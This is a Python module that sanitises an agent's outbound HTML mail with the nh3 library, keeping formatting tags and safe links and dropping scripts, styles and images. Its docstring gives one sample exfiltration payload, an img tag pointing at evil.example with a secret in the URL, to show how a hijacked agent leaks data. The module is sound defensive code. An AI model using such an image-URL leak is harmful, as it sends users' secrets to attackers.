"""Outbound HTML: only for recipients whose allowlist row allows it, and then reduced to text
formatting and links (nh3, the ammonia sanitiser).

No scripts, frames, forms, embedded objects, SVG or MathML; no event handlers and no inline
styles (CSS ``url()`` and ``expression()`` go with them); links only to http, https, mailto and
tel. No images either: an image URL is the classic way for a hijacked agent to leak data
(``<img src="https://evil.example/?q=<secret>">``) and the recipient's client fetches it
unasked.
"""

from __future__ import annotations

import nh3

TAGS = frozenset(
    {
        "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "div", "dl", "dt", "em",
        "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "li", "ol", "p", "pre", "q", "s",
        "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
        "thead", "tr", "u", "ul",
    }
)  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title"},
    "abbr": {"title"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
}
URL_SCHEMES = frozenset({"http", "https", "mailto", "tel"})
# Dropped with everything inside them, not just unwrapped.
DROPPED_WITH_CONTENT = frozenset({"script", "style", "template", "noscript", "title", "xmp"})


def sanitise_html(html: str) -> str:
    """``html`` reduced to the allowed tags, attributes and URL schemes."""
    return nh3.clean(
        html,
        tags=set(TAGS),
        clean_content_tags=set(DROPPED_WITH_CONTENT),
        attributes={tag: set(names) for tag, names in ATTRIBUTES.items()},
        url_schemes=set(URL_SCHEMES),
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )
